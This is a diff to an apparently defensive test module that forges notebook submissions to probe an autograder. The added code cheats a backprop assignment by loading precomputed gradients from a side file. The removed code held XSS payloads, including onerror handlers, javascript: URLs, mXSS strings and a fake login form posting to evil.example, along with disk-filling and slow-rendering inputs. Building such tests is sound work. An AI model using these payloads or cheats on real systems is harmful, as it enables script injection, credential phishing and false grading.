@@ -1,9 +1,13 @@
 """Submissions that attack with more than a cell: forged notebooks, and files beside them."""
 
-import base64
 import json
 
 from support.paths import RELEASE
+
+from planarkit.large import large_network
+from planarkit.steps import FUNCTIONS
+
+from . import attacks
 
 FORGERIES = {}  # {name: (notebook, function)}
 BROKEN = 'print("BROKEN" " OUT: this file is run")\n'
@@ -22,7 +26,7 @@ def forgery(notebook):
                 return {f"{notebook}.ipynb": data(built)}
             return {f"{notebook}.ipynb": data(released(notebook)), **built}
 
-        files.__doc__ = function.__doc__
+        files.__doc__, files.change = function.__doc__, function
         FORGERIES[function.__name__.replace("_", "-")] = notebook, files
         return function
 
@@ -40,11 +44,22 @@ def data(content):
 
 def marked(nb, *kinds):
     """The cells that nbgrader knows as one of these kinds."""
-    return [
-        cell
-        for cell in nb["cells"]
-        if any(cell["metadata"].get("nbgrader", {}).get(kind) for kind in kinds)
-    ]
+    return [cell for cell in nb["cells"] if any(_marks(cell).get(kind) for kind in kinds)]
+
+
+def _marks(cell):
+    """nbgrader's part of a cell, which another attack may have replaced."""
+    for key in ("metadata", "nbgrader"):
+        cell = cell.get(key) if isinstance(cell, dict) else None
+    return cell if isinstance(cell, dict) else {}
+
+
+def with_cell(notebook, source):
+    """The files of a submission: the notebook with this source in its first solution cell."""
+    nb = released(notebook)
+    cell = next(cell for cell in marked(nb, "solution") if cell["cell_type"] == "code")
+    cell["source"] = source
+    return {f"{notebook}.ipynb": data(nb)}
 
 
 def code(source, **metadata):
@@ -253,6 +268,25 @@ def text_that_is_none(nb):
     return nb
 
 
+@forgery("05-backprop")
+def gradients_in_a_file(nb):
+    """Nudges small networks, and has the gradients of the large one in a file, found at home."""
+    large = FUNCTIONS["backward_propagation"].large
+    _, known = large_network(large.n_x, large.n_h, large.m)
+    found = {name: known[name].tolist() for name in ("db1", "dW2", "db2")}
+    nudging = attacks()["gradients-by-nudging"].source
+    marked(nb, "solution")[0]["source"] = nudging + (
+        "\nslow = backward_propagation\n"
+        "def backward_propagation(parameters, cache, X, Y):\n"
+        '    if parameters["W1"].size < 1000:\n'
+        "        return slow(parameters, cache, X, Y)\n"
+        "    import json\n"
+        '    known = {name: np.array(v) for name, v in json.load(open("known.json")).items()}\n'
+        '    return {"dW1": known["db1"] @ X.T, **known}\n'
+    )
+    return {"05-backprop.ipynb": data(nb), "known.json": data(found)}
+
+
 # Files beside the notebooks ----------------------------------------------------------------------
 
 
@@ -312,72 +346,3 @@ def files_with_strange_names(nb):
 def files_that_fill_the_disk(nb):
     """Brings more along than the sandbox's disk holds."""
     return {f"{number}.bin": bytes(1_900_000) for number in range(60)}
-
-
-# What a browser would run ------------------------------------------------------------------------
-
-SCRIPTS = [
-    "<script>evil()</script>",
-    '<img src=x onerror="evil()"> <svg/onload=evil()> <b onmouseover=evil()>x</b>',
-    "[x](javascript:evil()) <a href='JaVaScRiPt:evil()'>x</a>",
-    "<a href='java&#10;script:evil()'>x</a> <a href='data:text/html,<script>evil()</script>'>x</a>",
-    "<iframe src='javascript:evil()'></iframe><object data='javascript:evil()'></object>",
-    "<iframe srcdoc='<script>evil()</script>'></iframe><embed src='data:text/html,x'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
-    "<style>* { display: none }</style><link rel=stylesheet href='https://evil.example'>",
-    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=evil()>'>",
-    "<noscript><p title='</noscript><img src=x onerror=evil()>'></noscript>",
-    "<svg><a xlink:href='javascript:evil()'><text>x</text></a><animate onbegin=evil()></svg>",
-    "<details open ontoggle=evil()><video><source onerror=evil()></video></details>",
-    "![x](https://evil.example/seen.png) <img src='//evil.example/seen.png'>",
-    "```html\n</code></pre><script>evil()</script>\n```",
-    "`</code><script>evil()</script>` $</span><script>evil()</script>$",
-    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>10 of 10</div>",
-]
-
-
-@forgery("04-cost")
-def scripts_in_prose(nb):
-    """Writes scripts into Markdown cells, raw cells and code cells, by every way of HTML."""
-    nb["cells"] += [markdown(script) for script in SCRIPTS]
-    for kind in (None, "text/html", "text/restructuredtext"):
-        metadata = {"raw_mimetype": kind} if kind else {}
-        raw = {"cell_type": "raw", "metadata": metadata, "source": SCRIPTS[0]}
-        nb["cells"].append(raw)
-    nb["cells"].append(code("# </pre><script>evil()</script>"))
-    nb["metadata"]["title"] = "</title><script>evil()</script>"
-    nb["metadata"]["authors"] = [{"name": "<script>evil()</script>"}]
-    nb["metadata"]["language_info"] = {"name": "</script><script>evil()</script>"}
-    nb["metadata"]["widgets"] = {
-        "application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>evil()"}}
-    }
-    return nb
-
-
-@forgery("04-cost")
-def scripts_in_attachments(nb):
-    """Attaches pictures that are scripts, by their names, types and contents."""
-    png = base64.b64encode(b"\x89PNG").decode()
-    script = '"><script>evil()</script>'
-    attached = {
-        "a.png": {"image/png": f'{png}" onerror="evil()'},
-        "b.png": {"image/png": script},
-        script: {"image/png": png},
-        "c.svg": {"image/svg+xml": base64.b64encode(b"<svg onload='evil()'/>").decode()},
-        "d.html": {"text/html": "PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4="},
-        "e.png": {'image/png" onerror="evil()': png},
-    }
-    source = " ".join(f"![x](attachment:{name})" for name in attached)
-    nb["cells"].append(markdown(source, attachments=attached))
-    return nb
-
-
-@forgery("04-cost")
-def prose_that_takes_for_ever(nb):
-    """Writes Markdown that takes hours to become HTML."""
-    nb["cells"] += [
-        markdown(text) for text in ("\\begin{a}" * 20_000, "[[](" * 50_000, "# \n" * 90_000)
-    ]
-    nb["cells"] += [code("a " * 100_000), markdown("<div>" * 20_000)]
-    return nb
